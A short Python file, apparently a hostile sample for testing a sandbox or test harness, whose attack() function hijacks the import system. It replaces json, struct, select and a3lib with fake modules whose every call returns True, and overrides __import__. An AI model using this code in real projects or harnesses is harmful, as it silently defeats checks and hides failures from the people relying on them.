"""Hand out other modules than those asked for."""

import builtins
import importlib
import sys
import types


class Everything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *arguments, **more: True


class Finder:
    def find_spec(self, name, path=None, target=None):
        sys.modules[name] = Everything(name)
        return None


def attack():
    sys.meta_path.insert(0, Finder())
    sys.path_hooks.insert(0, Everything)
    for name in [*sys.modules]:
        if name.startswith(("a3lib", "json", "struct", "select")):
            sys.modules[name] = Everything(name)
    builtins.__import__ = lambda *arguments, **more: Everything("any")
    importlib.import_module = builtins.__import__
    return False
